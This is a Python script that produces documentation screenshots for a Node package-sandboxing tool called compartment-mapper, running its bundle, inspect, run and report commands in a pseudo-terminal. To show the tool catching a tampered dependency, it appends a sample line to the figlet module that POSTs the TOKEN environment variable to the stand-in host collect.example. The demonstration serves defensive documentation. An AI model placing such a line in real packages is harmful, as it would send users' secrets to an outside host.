"""Run commands in a terminal, and take pictures of what they print.

Usage: python -m documentation.screenshots FOLDER
"""

from __future__ import annotations

import fcntl
import io
import json
import os
import pty
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import termios
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from environment import node_folder
from PIL import Image
from rich.console import Console
from rich.terminal_theme import MONOKAI
from rich.text import Text

from documentation.pages import draw
from documentation.repository import ROOT

_HERE = Path(__file__).parent
_PACKAGES = ROOT / "tests" / "packages" / "node_modules"
_COLUMNS = 110
_LARGEST = 100_000  # bytes

_MAIN = (
    "import figlet from 'figlet';\n\nconsole.log(figlet.textSync(process.argv[2] ?? 'hello'));\n"
)
_UPDATE = "fetch('https://collect.example/', { method: 'POST', body: process.env.TOKEN });\n"
_SERVER = (
    "import connect from 'connect';\n\nconnect().use((_, response) => response.end()).listen(0);\n"
)

_SHOP = (
    "import axios from 'axios';\nimport connect from 'connect';\n\n"
    "const answer = async (_, response) => response.end((await axios.get(process.env.API)).data);\n"
    "connect().use(answer).listen(process.env.PORT);\n"
)
#: The view of the report, and the color scheme, of each picture.
_REPORTS = {
    "report-overview.png": ("tab=overview", "light"),
    "report-capabilities.png": ("tab=capabilities&package=axios", "dark"),
    "report-graph.png": ("tab=graph&package=connect%3Edebug", "light"),
    "report-sizes.png": ("tab=sizes", "dark"),
}

_PAGE = """<!doctype html>
<style>
  body {{ margin: 0; background: transparent; }}
  .picture {{ display: inline-block; }}
  .terminal {{ background: #1e1f1c; border-radius: 8px; overflow: hidden; }}
  .bar {{ background: #34352f; height: 26px; display: flex; align-items: center; gap: 7px;
    padding-left: 10px; }}
  .bar i {{ width: 11px; height: 11px; border-radius: 50%; background: #75715e; }}
  pre {{ margin: 0; padding: 12px 16px 14px; color: #f8f8f2; line-height: 1.4; width: {columns}ch;
    font: 13px 'DejaVu Sans Mono', 'Liberation Mono', Menlo, Consolas, monospace;
    white-space: pre-wrap; overflow-wrap: anywhere; }}
  .graph {{ background: #fff; border-radius: 8px; padding: 8px; }}
</style>
<div class="picture">{content}</div>
"""
_TERMINAL = (
    '<div class="terminal"><div class="bar"><i></i><i></i><i></i></div><pre>{text}</pre></div>'
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Terminal:
    """A terminal in a folder, in which ``compartment-mapper`` is a command."""

    folder: Path

    def session(self, *commands: str) -> str:
        """Return what a person sees who types *commands*, with the colors that they have."""
        return "\n".join(f"\x1b[1;32m$\x1b[0m {line}\n{self.output(line)}" for line in commands)

    def output(self, command: str) -> str:
        """Return what *command* writes to the terminal."""
        controller, terminal = pty.openpty()
        fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", 50, _COLUMNS, 0, 0))
        environment = {name: value for name, value in os.environ.items() if name != "CI"}
        programs = f"{Path(sys.executable).parent}{os.pathsep}{node_folder()}"
        environment |= {
            "PATH": f"{programs}{os.pathsep}{os.environ['PATH']}",
            "COMPARTMENT_MAPPER_CACHE": str(self.folder.parent / "cache"),
            "TERM": "xterm-256color",
        }
        process = subprocess.Popen(
            ["/bin/sh", "-c", command],
            cwd=self.folder,
            env=environment,
            stdin=subprocess.DEVNULL,
            stdout=terminal,
            stderr=terminal,
        )
        os.close(terminal)
        with io.FileIO(controller) as screen:
            written = b"".join(iter(lambda: _read(screen), b""))
        process.wait()
        lines = written.decode().replace("\r\n", "\n").split("\n")
        return "\n".join(_shown(line) for line in lines)


def _shown(line: str) -> str:
    """Return what is left of a line that was written again, as progress is.

    >>> _shown("\\r\\x1b[K25 modules\\r\\x1b[Kdone")
    'done'
    """  # noqa: D301 - control characters within a text
    return line.rpartition("\r")[2].removeprefix("\x1b[K")


def _read(screen: io.FileIO) -> bytes:
    try:
        return screen.read(65536) or b""
    except OSError:  # the terminal was closed by the last that had it
        return b""


def main() -> None:
    """Take the pictures."""
    folder = Path(sys.argv[1])
    folder.mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory() as scratch:
        pages = {**_sessions(Path(scratch) / "banner"), **_graph(Path(scratch) / "server")}
        report = _report(Path(scratch) / "shop")
        asked = [[html, str(folder / name)] for name, html in pages.items()]
        asked += [
            [f"{report.as_uri()}#{view}", str(folder / name), scheme]
            for name, (view, scheme) in _REPORTS.items()
        ]
        _photograph(asked)
    for name in (*pages, *_REPORTS):
        _optimize(folder / name)


def _sessions(folder: Path) -> dict[str, str]:
    """Return the pictures of sessions: an application that gets what it needs, and an update."""
    _write(folder, _MAIN, "figlet", "commander")
    terminal = Terminal(folder=folder)
    bundled = terminal.session("compartment-mapper bundle . -o app.zip")
    denied = terminal.session("compartment-mapper run app.zip -- Ada")
    terminal.output("compartment-mapper policy infer . && compartment-mapper bundle . -o app.zip")
    inspected = terminal.session(
        "compartment-mapper inspect app.zip",
        "compartment-mapper run app.zip -- Ada",
    )
    with (folder / "node_modules/figlet/dist/node-figlet.mjs").open("a") as module:
        module.write(_UPDATE)
    updated = terminal.session(
        "tail -n 1 node_modules/figlet/dist/node-figlet.mjs   # after an update",
        "compartment-mapper bundle . -o app.zip",
    )
    return {
        "bundle.png": _terminal(bundled),
        "denial.png": _terminal(denied),
        "inspect.png": _terminal(inspected),
        "update.png": _terminal(updated),
    }


def _graph(folder: Path) -> dict[str, str]:
    """Return the picture of a graph of packages."""
    _write(folder, _SERVER, "connect")
    text = Terminal(folder=folder).output(
        "compartment-mapper inspect . --infer --mermaid 2>/dev/null"
    )
    (drawn,) = draw([text], {"bg": "#ffffff", "fg": "#1f2328"})
    return {
        "graph.png": _PAGE.format(columns=_COLUMNS, content=f'<div class="graph">{drawn}</div>')
    }


def _report(folder: Path) -> Path:
    """Return the page of a report."""
    _write(folder, _SHOP, "axios", "connect")
    terminal = Terminal(folder=folder)
    terminal.output("compartment-mapper report . --infer -o report.html")
    return folder / "report.html"


def _write(folder: Path, main: str, *packages: str) -> None:
    """Write an application, with installed packages and all that these depend on."""
    descriptor = {"name": folder.name, "version": "1.0.0", "type": "module", "main": "src/main.js"}
    (folder / "src").mkdir(parents=True)
    (folder / "package.json").write_text(json.dumps(descriptor))
    (folder / "src" / "main.js").write_text(main)
    pending, done = [*packages], set[str]()
    while pending:
        name = pending.pop()
        if name in done:
            continue
        done.add(name)
        copied = folder / "node_modules" / name
        shutil.copytree(_PACKAGES / name, copied)
        found = json.loads((copied / "package.json").read_text("utf-8"))
        pending += found.get("dependencies", {})
    descriptor["dependencies"] = dict.fromkeys(packages, "*")  # type: ignore[assignment]
    (folder / "package.json").write_text(json.dumps(descriptor))


def _terminal(session: str) -> str:
    """Return a page with a terminal that shows *session*."""
    console = Console(record=True, file=io.StringIO(), width=10_000, force_terminal=True)
    short = re.sub(r"(?<=sha512 )([0-9a-f]{16})[0-9a-f]{112}", r"\1…", session.strip("\n"))
    console.print(Text.from_ansi(short), soft_wrap=True)
    text = console.export_html(inline_styles=True, code_format="{code}", theme=MONOKAI)
    return _PAGE.format(columns=_COLUMNS, content=_TERMINAL.format(text=text.rstrip()))


def _photograph(asked: list[list[str]]) -> None:
    sys.path.insert(0, str(ROOT / "tests"))
    from chromium import maybe_chromium  # noqa: PLC0415 - of the tests

    browser = maybe_chromium()
    if browser is None:
        sys.exit("no Chromium: apt-get install chromium, or set COMPARTMENT_MAPPER_CHROMIUM to one")
    command: Sequence[str | Path] = [node_folder() / "node", _HERE / "photograph.mjs", browser]
    subprocess.run(command, input=json.dumps(asked), text=True, check=True)


def _optimize(path: Path) -> None:
    """Write the picture again with the colors that it needs, half transparent ones included."""
    with Image.open(path) as picture:
        small = picture.convert("RGBA").quantize(colors=64, method=Image.Quantize.FASTOCTREE)
        small.save(path, optimize=True)
    size = path.stat().st_size
    print(f"{size / 1000:6.1f} kB  {path.name}  {small.width}x{small.height}")
    if size > _LARGEST:
        sys.exit(f"{path.name} is larger than {_LARGEST} bytes")


if __name__ == "__main__":
    main()
